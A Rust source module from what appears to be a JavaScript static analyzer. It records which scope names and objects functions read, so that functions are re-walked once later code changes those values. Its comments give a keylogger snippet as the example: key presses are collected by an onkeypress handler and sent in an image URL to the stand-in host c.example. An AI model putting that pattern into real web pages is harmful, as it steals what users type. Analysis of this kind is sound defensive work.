//! What functions read of the names and objects around them, and which of these another one changes later.
//!
//! `var k = ""; function send() { img.src = "//c.example/?k=" + k } onkeypress = function (e) { k += e.key }`: nobody says in
//! which order the two run. When `send` is walked, `k` may still be empty. What a later walk changes is unknown by then. So
//! functions that have read it before are walked once more, and what they give is no longer always the same. The same goes for
//! short functions that the script has called itself, `send(); setInterval(send, 999)`: they are called once more.

use std::ops::Range;

use super::Symbol;
use crate::maps::HashSet;
use crate::stream::interpret::value::{Function, Value};

#[derive(Default)]
pub(super) struct Reads {
    /// The walks and calls that go on, the innermost last.
    open: Vec<Open>,
    names: Vec<(u32, Symbol)>,
    objects: Vec<u32>,
    /// Functions that were walked or called, with what they read.
    read: Vec<Read>,
    /// Where the last of their names and objects end.
    kept: (usize, usize),
    /// Calls among them.
    calls: usize,
    /// Whether the script itself has run: what is changed from then on is changed later.
    is_later: bool,
    changed_names: HashSet<(u32, Symbol)>,
    changed_objects: HashSet<u32>,
}

/// Scopes and objects below these numbers are from before it began.
#[derive(Clone, Copy)]
struct Open {
    scopes: u32,
    objects: u32,
    names_from: usize,
    objects_from: usize,
}

struct Read {
    what: Again,
    open: Open,
    names: Range<usize>,
    objects: Range<usize>,
}

/// What is to be done again.
pub(super) enum Again {
    /// A function that nobody calls, by its object.
    Walk(u32),
    Call {
        function: Function,
        this: Value,
        arguments: Vec<Value>,
    },
}

/// Reads that are kept, and what is known to change.
const MOST: usize = 100_000;
/// Calls that may be done again.
const MOST_CALLS: usize = 128;

impl Reads {
    /// A walk or a call begins.
    pub(super) fn begin(&mut self, scopes: usize, objects: usize) {
        self.open.push(Open {
            scopes: scopes as u32,
            objects: objects as u32,
            names_from: self.names.len(),
            objects_from: self.objects.len(),
        });
    }

    /// The innermost walk or call ends; with nothing, what it read is of no interest.
    pub(super) fn end(&mut self, what: Option<Again>) {
        let Some(open) = self.open.pop() else { return };
        let names = open.names_from..self.names.len();
        let objects = open.objects_from..self.objects.len();
        if let Some(what) = what.filter(|_| !names.is_empty() || !objects.is_empty()) {
            self.kept = (names.end, objects.end);
            self.calls += usize::from(matches!(what, Again::Call { .. }));
            self.read.push(Read { what, open, names, objects });
        } else if self.open.is_empty() {
            // What began inside of it may be kept.
            self.names.truncate(open.names_from.max(self.kept.0));
            self.objects.truncate(open.objects_from.max(self.kept.1));
        }
    }

    /// Notes that the script itself has run: from here on, calls of its functions are kept.
    pub(super) fn script_has_run(&mut self) {
        self.is_later = true;
        self.open.clear();
    }

    /// Whether a call of the script is worth to be kept.
    pub(super) fn takes_calls(&self) -> bool {
        !self.is_later && self.calls < MOST_CALLS
    }

    /// A name of a scope was read. Functions and tables are no values that are put into texts.
    pub(super) fn note(&mut self, scope: u32, name: Symbol, value: &Value) {
        let Some(open) = self.open.last() else { return };
        let counts =
            scope < open.scopes && !matches!(value, Value::Unknown | Value::Object(_) | Value::Native(_));
        if counts && self.names.len() < MOST && self.names.last() != Some(&(scope, name)) {
            self.names.push((scope, name));
        }
    }

    /// An object was read that others may put something into.
    pub(super) fn note_object(&mut self, object: u32) {
        let Some(open) = self.open.last() else { return };
        if object < open.objects && self.objects.len() < MOST && self.objects.last() != Some(&object) {
            self.objects.push(object);
        }
    }

    /// A branch leaves a name of a scope with another value than before.
    pub(super) fn change(&mut self, scope: u32, name: Symbol) {
        let counts = self.is_later && self.open.last().is_some_and(|open| scope < open.scopes);
        if counts && self.changed_names.len() < MOST {
            self.changed_names.insert((scope, name));
        }
    }

    /// Something is put into an object, where it may not be.
    pub(super) fn change_object(&mut self, object: u32) {
        let counts = self.is_later && self.open.last().is_some_and(|open| object < open.objects);
        if counts && self.changed_objects.len() < MOST {
            self.changed_objects.insert(object);
        }
    }

    // For `var k = ''; function send() { use('k=' + k) } onkeypress = e => { k += e.key }`:
    //
    //     walk of `send`       reads `k` of scope 0: '' then, so `'k=' + k` is always `k=` so far
    //     walk of the arrow    changes `k` of scope 0 from '' to unknown
    //     `stale`              `send` has read it, is walked again, and `'k=' + k` becomes unknown
    /// What has read what was changed, in the order in which it ended. Nothing is kept from here on.
    pub(super) fn stale(&mut self) -> Vec<Again> {
        let Self { names, objects, read, changed_names, changed_objects, .. } = std::mem::take(self);
        let is_stale = |of: &Read| {
            let name = |name: &(u32, Symbol)| name.0 < of.open.scopes && changed_names.contains(name);
            let object = |object: &u32| *object < of.open.objects && changed_objects.contains(object);
            names[of.names.clone()].iter().any(name) || objects[of.objects.clone()].iter().any(object)
        };
        let any = !changed_names.is_empty() || !changed_objects.is_empty();
        read.into_iter().filter(|read| any && is_stale(read)).map(|read| read.what).collect()
    }
}
